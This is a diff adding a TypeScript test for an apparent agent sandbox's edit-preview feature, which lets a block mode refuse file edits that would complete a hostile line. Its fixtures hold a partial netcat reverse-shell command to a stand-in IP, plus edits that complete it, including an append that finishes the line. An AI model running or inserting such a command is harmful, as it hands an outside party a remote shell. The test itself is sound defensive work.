@@ -1,0 +1,52 @@
+// Why: block mode refuses an edit that would complete a hostile line by working out, before the
+// call, the lines it would leave (session/edit-preview.ts). That preview must say exactly what the
+// file-tool program prints after the edit, or block mode judges other lines than the screen after
+// the call: this runs the real program (dist/native/corral-file) on temporary files and compares,
+// over str_replace, insert and append on files with and without a last newline, long and short.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { previewEdit } from '../src/session/edit-preview.js';
+import type { FileOperation } from '../src/session/file-tools.js';
+
+const PROGRAM = join(process.cwd(), 'dist', 'native', 'corral-file');
+
+function program(path: string, op: FileOperation): { code: number; out: string } {
+  const [name, arg, data] = op.op === 'str_replace' ? ['str_replace', [], Buffer.concat([Buffer.from(`${Buffer.byteLength(op.old)}\n${op.old}`), Buffer.from(op.new)])]
+    : op.op === 'insert' ? ['insert', [String(op.line)], Buffer.from(op.text)]
+      : ['append', [], Buffer.from(op.op === 'write' ? op.content as string : '')];
+  try {
+    return { code: 0, out: execFileSync(PROGRAM, [name as string, ...(arg as string[])], { input: Buffer.concat([Buffer.from(`${path}\0`), data as Buffer]) }).toString('utf8') };
+  } catch (e) { return { code: (e as { status: number }).status, out: '' }; }
+}
+
+test('the edit preview is what the file-tool program prints after the same edit', (t) => {
+  const dir = mkdtempSync(join(tmpdir(), 'corral-preview-'));
+  t.after(() => rmSync(dir, { recursive: true, force: true }));
+  const long = Array.from({ length: 3000 }, (_, i) => `line ${i}\n`).join('');
+  const files: Record<string, string> = { 'a.sh': '#!/bin/sh\nnc -QQ /bin/sh 198.51.100.7 4444\necho done\n', 'b.txt': 'one\ntwo', 'c.txt': '', 'd.txt': long, 'e.txt': 'x'.repeat(400) + '\nsecond\nthird\n' };
+  const ops: FileOperation[] = [
+    { op: 'str_replace', path: '', old: 'QQ', new: 'e' }, { op: 'str_replace', path: '', old: 'two', new: 'TWO\nmore' },
+    { op: 'str_replace', path: '', old: 'line 2999\n', new: 'end\n' }, { op: 'str_replace', path: '', old: 'third', new: '3' },
+    { op: 'str_replace', path: '', old: 'absent', new: 'x' }, { op: 'str_replace', path: '', old: 'line 1', new: 'dup' },
+    { op: 'insert', path: '', line: 0, text: '#!/bin/bash' }, { op: 'insert', path: '', line: 1, text: 'x' }, { op: 'insert', path: '', line: 2, text: 'y\nz' },
+    { op: 'insert', path: '', line: 3, text: '' }, { op: 'insert', path: '', line: 2999, text: 'q' }, { op: 'insert', path: '', line: 5000, text: 'q' },
+    { op: 'write', path: '', content: 'e /bin/sh 198.51.100.7 4444\n', append: true }, { op: 'write', path: '', content: '', append: true },
+  ];
+  let compared = 0;
+  for (const [name, text] of Object.entries(files)) {
+    for (const op of ops) {
+      const path = join(dir, name);
+      writeFileSync(path, text);
+      const want = program(path, op);
+      const got = previewEdit(op, Buffer.from(text));
+      if (want.code !== 0) { assert.equal(got, undefined, `${name} ${JSON.stringify(op)}: the program refused, the preview must too`); continue; }
+      assert.equal(got, want.out, `${name} ${JSON.stringify(op)}`);
+      compared++;
+    }
+  }
+  assert.ok(compared >= 30, `${compared} edits compared`);
+});
